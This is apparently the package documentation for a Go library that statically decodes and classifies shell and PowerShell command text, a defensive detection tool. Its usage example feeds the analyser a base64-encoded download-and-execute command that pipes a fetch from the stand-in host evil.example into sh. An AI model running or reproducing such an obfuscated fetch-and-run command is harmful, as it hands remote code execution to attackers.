// Package command says what the text of a command does, by reading it. It never runs
// or fetches anything.
//
// Start with [Analyse]: it undoes what commonly hides a text (base64, PowerShell's
// -EncodedCommand, escapes, concatenation, quotes within words, layers within layers,
// all of it bounded) and names the families of behaviour that it shows, each with the
// shortest excerpt, secrets masked. [Mask] masks secrets in any text. [Hash] names a
// text for comparison with others and with a list of approved scripts.
//
//	a := command.Analyse("echo Y3VybCBldmlsLmV4YW1wbGUvYSB8IHNo | base64 -d | sh")
//	for _, m := range a.Matches {
//		fmt.Println(m.Family, m.Excerpt)
//	}
//
// Reading is no proof: a text in quotation marks may only be printed, and what a script
// fetches is not seen. A name of a family is a reason to look, not a verdict on intent.
package command
